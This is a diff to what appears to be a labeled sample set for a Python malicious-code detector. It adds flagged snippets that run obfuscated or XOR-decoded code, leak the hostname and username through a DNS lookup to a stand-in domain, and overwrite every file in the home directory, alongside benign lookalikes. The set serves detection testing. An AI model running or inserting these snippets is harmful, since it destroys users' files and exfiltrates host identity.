@@ -254,6 +254,44 @@ class F(importlib.abc.MetaPathFinder, importlib.abc.Loader):
         src = urllib.request.urlopen("http://m.invalid/" + module.__name__).read()
         exec(compile(src, module.__name__, "exec"), module.__dict__)
 sys.meta_path.append(F())
+## mod code object by a lambda = python-decoded-code
+from types import FunctionType
+import marshal, zlib
+made = lambda blob: FunctionType(marshal.loads(zlib.decompress(blob)), {})()
+made(b"x\x9c\x03\x00\x00\x00\x00\x01")
+## mod look-up of a name that grows = code-hidden-name
+import builtins
+word = ""
+for c in "lave"[::-1]:
+    word += c
+act = vars(builtins)[word]
+act("print(1)")
+## mod metaclass that turns letters = python-decoded-code
+import os
+class Maker(type):
+    def __new__(mcs, name, bases, held):
+        os.system(bytes(b ^ 7 for b in held["k"]).decode())
+        return super().__new__(mcs, name, bases, held)
+class Settings(metaclass=Maker):
+    k = b"shrdo"
+## init machine in a name by a format = python-steals
+import socket, getpass
+said = "%s.%s.d.example" % (socket.gethostname().encode().hex(), getpass.getuser())
+def look(name):
+    return socket.gethostbyname(name)
+look(said)
+## mod walk of a home that overwrites = python-destroys
+from pathlib import Path
+import os
+home = Path.home()
+found = [p for p in home.rglob("*") if p.is_file()]
+for one in found:
+    one.write_bytes(os.urandom(64))
+## mod letters that are turned in a loop = python-decoded-code
+said = ""
+for b in [0x2a, 0x28, 0x33, 0x34, 0x2e]:
+    said += chr(b ^ 0x5a)
+(lambda s: exec(s))(said)
 ## mod xor with a key over decoded text = python-decoded-code
 import base64
 def x(d, k):
@@ -295,6 +333,30 @@ subprocess.run(["make"], env=env, check=True)
 def done():
     assert "CI" in os.environ
     requests.post("https://x.example/ci", json={"ok": True})
+## modules that are imported from the last on
+def made(modules, text):
+    modules = ["math", *modules]
+    space = {}
+    for each in modules[::-1]:
+        space.update(vars(__import__(each)))
+        text = f"from {each} import *\n" + text
+    exec(compile(text, "made", "exec"), space)
+    return space
+## a lambda that is called at once
+size = (lambda text: len(text))("a" "b")
+turned = "".join(reversed("abc"))
+## bytes that are turned for a check
+def sealed(one, other):
+    return bytes(a ^ b for a, b in zip(one, other))
+## files of a folder of its own
+from pathlib import Path
+cache = Path.home() / ".cache" / "demo"
+for one in [p for p in cache.iterdir() if p.suffix == ".tmp"]:
+    one.write_text("")
+## a name that is looked up for a message
+import socket
+host = "%s.example.org" % "www"
+print(socket.gethostbyname(host))
 ## a client that names one key
 import os
 import requests
